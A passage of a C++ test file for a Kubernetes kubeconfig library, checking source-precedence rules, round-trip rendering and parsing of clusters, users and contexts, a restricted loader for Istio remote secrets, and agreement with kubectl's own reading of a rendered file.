  sources.inCluster = inClusterFiles(dir);
  sources.inCluster.host.clear();
  sources.inCluster.port.clear();
  sources.env = [&env](const std::string& name) -> std::optional<std::string> {
    auto it = env.find(name);
    if (it == env.end()) return std::nullopt;
    return it->second;
  };
  const auto server = [&]() -> std::string {
    auto config = loadDefaultConfig(sources);
    if (!config) return "error: " + config.error().message();
    return config->server;
  };

  sources.kubeconfigFlag = flagFile;
  CHECK(server() == "https://flag.example");
  sources.kubeconfigFlag.clear();
  CHECK(server() == "https://10.96.0.1:443");
  fs::remove(sources.inCluster.tokenFile);  // not in a pod
  CHECK(server() == "https://env.example");
  env.erase("KUBECONFIG");
  CHECK(server() == "https://home.example");
  env["HOME"] = dir.path() + "/nohome";
  const auto none = server();
  CHECK(contains(none, "no Kubernetes configuration found"));
  CHECK(contains(none, dir.path() + "/nohome/.kube/config"));

  sources.kubeconfigFlag = dir.path() + "/typo/config";
  CHECK(contains(server(), "(from --kubeconfig) does not exist"));
}

// ------------------------------------------------------------------------------------------------
// Rendering

namespace {

void checkSameConfig(const Kubeconfig& a, const Kubeconfig& b) {
  CHECK(a.currentContext == b.currentContext);
  REQUIRE(a.clusters.size() == b.clusters.size());
  for (const auto& [name, c] : a.clusters) {
    INFO("cluster " << name);
    REQUIRE(b.clusters.count(name) == 1);
    const auto& d = b.clusters.at(name);
    CHECK(c.server == d.server);
    CHECK(c.certificateAuthority == d.certificateAuthority);
    CHECK(c.certificateAuthorityData == d.certificateAuthorityData);
    CHECK(c.tlsServerName == d.tlsServerName);
    CHECK(c.insecureSkipTlsVerify == d.insecureSkipTlsVerify);
    CHECK(c.proxyUrl == d.proxyUrl);
  }
  REQUIRE(a.users.size() == b.users.size());
  for (const auto& [name, u] : a.users) {
    INFO("user " << name);
    REQUIRE(b.users.count(name) == 1);
    const auto& v = b.users.at(name);
    CHECK(u.token == v.token);
    CHECK(u.tokenFile == v.tokenFile);
    CHECK(u.clientCertificate == v.clientCertificate);
    CHECK(u.clientCertificateData == v.clientCertificateData);
    CHECK(u.clientKey == v.clientKey);
    CHECK(u.clientKeyData == v.clientKeyData);
    CHECK(u.username == v.username);
    CHECK(u.password == v.password);
  }
  REQUIRE(a.contexts.size() == b.contexts.size());
  for (const auto& [name, c] : a.contexts) {
    INFO("context " << name);
    REQUIRE(b.contexts.count(name) == 1);
    CHECK(c.cluster == b.contexts.at(name).cluster);
    CHECK(c.user == b.contexts.at(name).user);
    CHECK(c.ns == b.contexts.at(name).ns);
  }
}

}  // namespace

TEST_CASE("renderKubeconfig: render then parse gives the same config", "[kubeconfig][render]") {
  Kubeconfig config;
  Kubeconfig::Cluster hub;
  hub.server = "https://hub.example:6443";
  hub.certificateAuthorityData = kCaPem;
  hub.tlsServerName = "kubernetes.default.svc";
  config.clusters["hub"] = hub;
  Kubeconfig::Cluster lab;
  lab.server = "https://[fd00::1]:6443";
  lab.insecureSkipTlsVerify = true;
  config.clusters["lab: #1"] = lab;  // a name YAML would misread unquoted
  Kubeconfig::Cluster files;
  files.server = "https://files.example";
  files.certificateAuthority = "/etc/ca.crt";
  config.clusters["files"] = files;

  Kubeconfig::User tokenUser;
  tokenUser.token = "true";  // would become a boolean if written unquoted
  config.users["null"] = tokenUser;
  Kubeconfig::User certUser;
  certUser.clientCertificateData = kCertPem;
  certUser.clientKeyData = kKeyPem;
  config.users["cert"] = certUser;
  Kubeconfig::User basic;
  basic.username = "admin";
  basic.password = "p@ss: 'w\"o#rd\n123";
  config.users["basic"] = basic;
  Kubeconfig::User fileUser;
  fileUser.tokenFile = "/var/run/token";
  fileUser.clientCertificate = "/etc/c.crt";
  fileUser.clientKey = "/etc/c.key";
  config.users["file-user"] = fileUser;

  config.contexts["hub"] = {"hub", "cert", "istio-system", ""};
  config.contexts["lab"] = {"lab: #1", "null", "", ""};
  config.contexts["123"] = {"files", "basic", "", ""};
  config.currentContext = "123";

  const std::string yaml = renderKubeconfig(config);
  CHECK(contains(yaml, "certificate-authority-data: \"" + b64(kCaPem) + "\""));
  auto parsed = parseKubeconfig(yaml, "", KubeconfigTrust::kLocal, "rendered");
  REQUIRE(parsed);
  checkSameConfig(config, *parsed);
  CHECK(renderKubeconfig(*parsed) == yaml);
}

TEST_CASE("singleClusterKubeconfig: the Istio remote-secret shape passes the restricted loader",
          "[kubeconfig][render]") {
  const auto config =
      singleClusterKubeconfig("remote-1", "https://127.0.0.1:40123", kCaPem, kToken);
  CHECK(config.currentContext == "remote-1");
  CHECK(config.contexts.at("remote-1").cluster == "remote-1");
  CHECK(config.contexts.at("remote-1").user == "remote-1");

  const std::string yaml = renderKubeconfig(config);
  auto rest =
      restConfigFromUntrustedKubeconfig(yaml, "Secret istio-system/istio-remote-secret-remote-1");
  REQUIRE(rest);
  CHECK(rest->server == "https://127.0.0.1:40123");
  CHECK(rest->tls.caPem == kCaPem);
  REQUIRE(rest->token);
  CHECK(rest->token->token().value() == kToken);

  auto parsed = parseKubeconfig(yaml, "", KubeconfigTrust::kRestricted, "rendered");
  REQUIRE(parsed);
  checkSameConfig(config, *parsed);
}

TEST_CASE("renderKubeconfig: kubectl reads the rendered file the same way",
          "[kubeconfig][render][kubectl]") {
  // Checked against the real client when the machine has one; kubectl needs no server for this.
  if (!fs::exists("/usr/bin/kubectl")) {
    WARN("kubectl not installed: skipped");
    return;
  }
  TempDir dir;
  const auto path =
      dir.write("remote.kubeconfig", renderKubeconfig(singleClusterKubeconfig(
                                         "remote-1", "https://127.0.0.1:40123", kCaPem, kToken)));
  const std::string command = "/usr/bin/kubectl config view --raw --minify --kubeconfig '" + path +
                              "' -o jsonpath='{.clusters[0].cluster.server} "
                              "{.clusters[0].cluster.certificate-authority-data} "
                              "{.users[0].user.token} {.current-context}' 2>&1";
  std::string output;
  if (FILE* pipe = ::popen(command.c_str(), "r")) {
    char buf[4096];
    while (std::size_t n = std::fread(buf, 1, sizeof buf, pipe)) output.append(buf, n);
    ::pclose(pipe);
  }
  CHECK(output == "https://127.0.0.1:40123 " + b64(kCaPem) + " " + kToken + " remote-1");
}
